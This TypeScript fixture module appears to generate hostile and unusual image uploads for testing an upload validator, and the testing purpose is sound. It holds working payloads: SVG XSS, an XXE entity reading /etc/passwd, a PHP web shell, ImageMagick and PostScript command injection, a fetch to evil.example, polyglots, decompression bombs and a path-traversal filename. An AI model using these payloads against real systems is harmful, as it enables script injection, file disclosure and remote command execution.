import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** One upload of the corpus: the bytes and what their sender claims them to be. */
export interface Sample {
  what: string;
  bytes: Buffer;
  name?: string;
  type?: string;
}

/** Planted into metadata and tails: never to be found in what is stored. */
export const SECRET = 'GPS-of-my-home-48.8584N-2.2945E';

const noise = (width: number, height: number) =>
  sharp({
    create: {
      width,
      height,
      channels: 3,
      background: '#e2805f',
      noise: { type: 'gaussian', mean: 120, sigma: 40 },
    },
  });
export const picture = {
  jpeg: () => noise(300, 200).jpeg().toBuffer(),
  png: () => noise(120, 90).png().toBuffer(),
  webp: () => noise(300, 200).webp().toBuffer(),
  gif: () => noise(120, 90).gif().toBuffer(),
  avif: () => noise(64, 64).avif({ effort: 0 }).toBuffer(),
};

const crcTable = Uint32Array.from({ length: 256 }, (_, byte) => {
  let value = byte;
  for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1;
  return value;
});
function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = (crcTable[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}
const uint32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const chunk = (type: string, data: Buffer, crc?: number) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  return Buffer.concat([uint32(data.length), body, uint32(crc ?? crc32(body))]);
};
const pngSignature = Buffer.from('89504e470d0a1a0a', 'hex');
const header = (width: number, height: number, depth = 8, colour = 2) =>
  chunk('IHDR', Buffer.concat([uint32(width), uint32(height), Buffer.from([depth, colour, 0, 0, 0])]));
const pngOf = (...chunks: Buffer[]) => Buffer.concat([pngSignature, ...chunks, chunk('IEND', Buffer.alloc(0))]);
/** 8×8, black: rows of a filter byte and three bytes a pixel. */
const rows = deflateSync(Buffer.alloc(8 * (1 + 8 * 3)));
const control = (sequence: number, ...rest: Buffer[]) => Buffer.concat([uint32(sequence), ...rest]);
const frameControl = (sequence: number) =>
  chunk('fcTL', control(sequence, uint32(8), uint32(8), uint32(0), uint32(0), Buffer.from([0, 1, 0, 10, 0, 0])));

const script = '<script>alert(document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)">${script}<rect width="9" height="9"/></svg>`;
const laughs = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;&c;</text></svg>`;

function patched(bytes: Buffer, offset: number, hex: string): Buffer {
  const copy = Buffer.from(bytes);
  copy.write(hex, offset, 'hex');
  return copy;
}
const half = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2));

/** Files that are no picture, or none that can be trusted. */
export async function hostileFiles(): Promise<Sample[]> {
  const [jpeg, png, webp, gif, avif] = await Promise.all([
    picture.jpeg(),
    picture.png(),
    picture.webp(),
    picture.gif(),
    picture.avif(),
  ]);
  // The frame header of a baseline JPEG: marker FFC0, length, precision, then height and width.
  const frame = jpeg.indexOf(Buffer.from('ffc0', 'hex')) + 5;
  // The image descriptor of a GIF: 2C, left and top, then width and height.
  const descriptor = gif.indexOf(Buffer.from('2c00000000', 'hex')) + 5;
  const tiff = await noise(9, 9).tiff().toBuffer();
  const text = (what: string, content: string, name: string, type: string): Sample => ({
    what,
    bytes: Buffer.from(content),
    name,
    type,
  });
  const magic = (what: string, hex: string, name: string): Sample => ({
    what,
    bytes: Buffer.concat([Buffer.from(hex.replaceAll(' ', ''), 'hex'), Buffer.alloc(400, 7)]),
    name,
    type: 'image/png',
  });
  return [
    text('an SVG', svg, 'face.svg', 'image/svg+xml'),
    text('an SVG called PNG', svg, 'face.png', 'image/png'),
    text('an SVG called JPEG', svg, 'face.jpg', 'image/jpeg'),
    text('an SVG called WebP', svg, 'face.webp', 'image/webp'),
    text('an SVG behind a byte order mark', `\ufeff \n${svg}`, 'face.png', 'image/png'),
    text('an SVG in UTF-16', Buffer.from(`\ufeff${svg}`, 'utf16le').toString('latin1'), 'face.png', 'image/png'),
    text('an SVG behind a comment', `<!-- ${'x'.repeat(900)} -->${svg}`, 'face.gif', 'image/gif'),
    text('an SVG with entities', laughs, 'face.svg', 'image/svg+xml'),
    { what: 'a compressed SVG', bytes: gzipSync(svg), name: 'face.svgz', type: 'image/svg+xml' },
    text('HTML', `<!doctype html>${script}`, 'face.png', 'image/png'),
    text('JavaScript', 'fetch("//evil.example")', 'face.jpg', 'image/jpeg'),
    text('PHP', '<?php system($_GET["c"]); ?>', 'face.php.png', 'image/png'),
    text('plain text', 'hello', 'face.jpeg', 'image/jpeg'),
    text('one byte', 'x', 'face.jpeg', 'image/jpeg'),
    text('nothing at all', '', 'face.png', 'image/png'),
    text('PDF', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>', 'face.pdf', 'application/pdf'),
    text('PostScript', '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(id) run', 'face.png', 'image/png'),
    text('an ImageMagick script', 'push graphic-context\nimage over 0,0 0,0 "|id"', 'face.mvg', 'image/png'),
    text('PPM', `P6 9 9 255\n${'x'.repeat(243)}`, 'face.ppm', 'image/x-portable-pixmap'),
    text('XBM', '#define x_width 8\n#define x_height 1\nstatic char x_bits[]={0x00};', 'face.xbm', 'image/xbm'),
    text('a GIF that is JavaScript', 'GIF89a=1;alert(document.domain)//', 'face.gif', 'image/gif'),
    text('a CSV', 'name,face\nbob,round', 'face.png', 'image/png'),
    magic('ZIP', '504b0304 14000000', 'face.zip'),
    magic('a Windows program', '4d5a9000 03000000', 'face.exe'),
    magic('a Linux program', '7f454c46 02010100', 'face.png'),
    magic('gzip of noise', '1f8b0800 00000000', 'face.png'),
    magic('BMP', '424dbe010000 0000000036000000 28000000 08000000 08000000 0100 1800', 'face.bmp'),
    magic('an icon', '00000100 0100 0808 0000 0100 1800', 'face.ico'),
    magic('a Photoshop file', '38425053 0001 000000000000 0003 00000008 00000008 0008 0003', 'face.psd'),
    magic('JPEG 2000', '0000000c 6a502020 0d0a870a', 'face.jp2'),
    magic('JPEG XL', 'ff0a', 'face.jxl'),
    magic('HEIC', '00000018 66747970 68656963 00000000 6d696631 68656963', 'face.heic'),
    magic('MP4', '00000018 66747970 69736f6d 00000200 69736f6d 6d703431', 'face.mp4'),
    magic('WebM', '1a45dfa3 9f4286810142f7810142f2', 'face.webm'),
    magic('MP3', '49443303 00000000', 'face.png'),
    magic('RIFF that is no WebP', '52494646 00010000 57415645', 'face.webp'),
    magic('noise', '9f03b1c455e2', 'face.png'),
    { what: 'TIFF', bytes: tiff, name: 'face.tiff', type: 'image/tiff' },
    { what: 'half a JPEG', bytes: half(jpeg) },
    { what: 'half a PNG', bytes: half(png) },
    { what: 'half a WebP', bytes: half(webp) },
    { what: 'half a GIF', bytes: half(gif) },
    { what: 'half an AVIF', bytes: half(avif) },
    { what: 'the start of a JPEG', bytes: jpeg.subarray(0, 20) },
    { what: 'the signature of a PNG', bytes: pngSignature },
    { what: 'the header of a GIF', bytes: gif.subarray(0, 13) },
    { what: 'a JPEG without its tables', bytes: Buffer.concat([jpeg.subarray(0, 20), jpeg.subarray(frame)]) },
    { what: 'a PNG of 30000 × 30000', bytes: pngOf(header(30_000, 30_000), chunk('IDAT', rows)) },
    { what: 'a PNG of two thousand million rows', bytes: pngOf(header(8, 2 ** 31 - 1), chunk('IDAT', rows)) },
    { what: 'a PNG just over the limit', bytes: pngOf(header(10_000, 5001, 1, 0), chunk('IDAT', rows)) },
    { what: 'a JPEG of 65535 × 65535', bytes: patched(jpeg, frame, 'ffffffff') },
    { what: 'a GIF of 65535 × 65535', bytes: patched(patched(gif, 6, 'ffffffff'), descriptor, 'ffffffff') },
    { what: 'a WebP of 16383 × 16383', bytes: patched(webp, 26, 'ff3fff3f') },
    { what: 'a PNG without width', bytes: pngOf(header(0, 8), chunk('IDAT', rows)) },
    { what: 'a PNG of a depth that is none', bytes: pngOf(header(8, 8, 7), chunk('IDAT', rows)) },
    { what: 'a PNG without pixels', bytes: pngOf(header(8, 8)) },
    { what: 'a PNG with too few rows', bytes: pngOf(header(8, 64), chunk('IDAT', rows)) },
    { what: 'a PNG with a wrong checksum', bytes: pngOf(header(8, 8), chunk('IDAT', rows, 1)) },
    { what: 'a PNG with broken compression', bytes: pngOf(header(8, 8), chunk('IDAT', Buffer.alloc(rows.length, 9))) },
    {
      what: 'a WebP with noise for pixels',
      bytes: Buffer.concat([webp.subarray(0, 40), Buffer.alloc(webp.length - 40, 0xa5)]),
    },
    {
      what: 'an AVIF with noise for pixels',
      bytes: Buffer.concat([avif.subarray(0, avif.length - 200), Buffer.alloc(200, 0x5a)]),
    },
    { what: 'an AVIF without pixels', bytes: avif.subarray(0, avif.indexOf('mdat')) },
  ];
}

/** Pictures that are odd but whole. */
export async function unusualPictures(): Promise<Sample[]> {
  const wide = noise(600, 300);
  const exif = {
    IFD0: { ImageDescription: SECRET },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 30/1' },
  };
  const jpeg = await picture.jpeg();
  const png = await picture.png();
  const comment = Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from([0, SECRET.length + 2]), Buffer.from(SECRET)]);
  const frames = await Promise.all(['#e2805f', '#5f80e2'].map((background) => square(background).png().toBuffer()));
  const strip = sharp(frames, { join: { animated: true } });
  const xmp = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="${SECRET}"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;
  return [
    { what: 'a 16-bit PNG', bytes: await wide.clone().toColourspace('rgb16').png().toBuffer() },
    { what: 'a CMYK JPEG', bytes: await wide.clone().toColourspace('cmyk').jpeg().toBuffer() },
    { what: 'a grey JPEG', bytes: await wide.clone().greyscale().jpeg().toBuffer() },
    { what: 'a PNG with a palette', bytes: await wide.clone().png({ palette: true }).toBuffer() },
    { what: 'an interlaced PNG', bytes: await wide.clone().png({ progressive: true }).toBuffer() },
    { what: 'a PNG with transparency', bytes: await wide.clone().ensureAlpha(0.5).png().toBuffer() },
    { what: 'a progressive JPEG', bytes: await wide.clone().jpeg({ progressive: true }).toBuffer() },
    { what: 'a lossless WebP', bytes: await wide.clone().webp({ lossless: true }).toBuffer() },
    { what: 'an AVIF', bytes: await picture.avif() },
    { what: 'a GIF', bytes: await picture.gif() },
    { what: 'one pixel', bytes: await noise(1, 1).png().toBuffer() },
    { what: 'a strip', bytes: await noise(9000, 2).png().toBuffer() },
    { what: 'an animated GIF', bytes: await strip.clone().gif().toBuffer() },
    { what: 'an animated WebP', bytes: await strip.clone().webp().toBuffer() },
    {
      what: 'an animated PNG',
      bytes: pngOf(
        header(8, 8),
        chunk('acTL', Buffer.concat([uint32(2), uint32(0)])),
        frameControl(0),
        chunk('IDAT', rows),
        frameControl(1),
        chunk('fdAT', control(2, rows)),
      ),
    },
    {
      what: 'a JPEG with a place and a turn',
      bytes: await wide.clone().withMetadata({ orientation: 6 }).withExif(exif).jpeg().toBuffer(),
    },
    { what: 'a PNG with XMP', bytes: await wide.clone().withXmp(xmp).png().toBuffer() },
    { what: 'a WebP with a colour profile', bytes: await wide.clone().withIccProfile('p3').webp().toBuffer() },
    { what: 'a JPEG with a comment', bytes: Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]) },
    { what: 'a JPEG with a ZIP at its end', bytes: Buffer.concat([jpeg, Buffer.from(`PK\u0003\u0004${SECRET}`)]) },
    { what: 'a PNG with a page at its end', bytes: Buffer.concat([png, Buffer.from(`<html>${script}${SECRET}`)]) },
    {
      what: 'a PNG with text',
      bytes: Buffer.concat([
        png.subarray(0, 33),
        chunk('tEXt', Buffer.from(`Comment\0${SECRET}`)),
        chunk('zTXt', Buffer.concat([Buffer.from('Bomb\0\0'), deflateSync(Buffer.alloc(4_000_000, 'x'))])),
        png.subarray(33),
      ]),
    },
    { what: 'a JPEG called SVG', bytes: jpeg, name: 'face.svg', type: 'image/svg+xml' },
    { what: 'a JPEG called nothing much', bytes: jpeg, name: '../../../etc/passwd', type: 'text/html' },
    { what: 'a JPEG with a name in many scripts', bytes: jpeg, name: 'ça 顔 \u202egnp.jpg', type: 'image/jpeg' },
  ];
}

const square = (background: string) => sharp({ create: { width: 40, height: 40, channels: 3, background } });
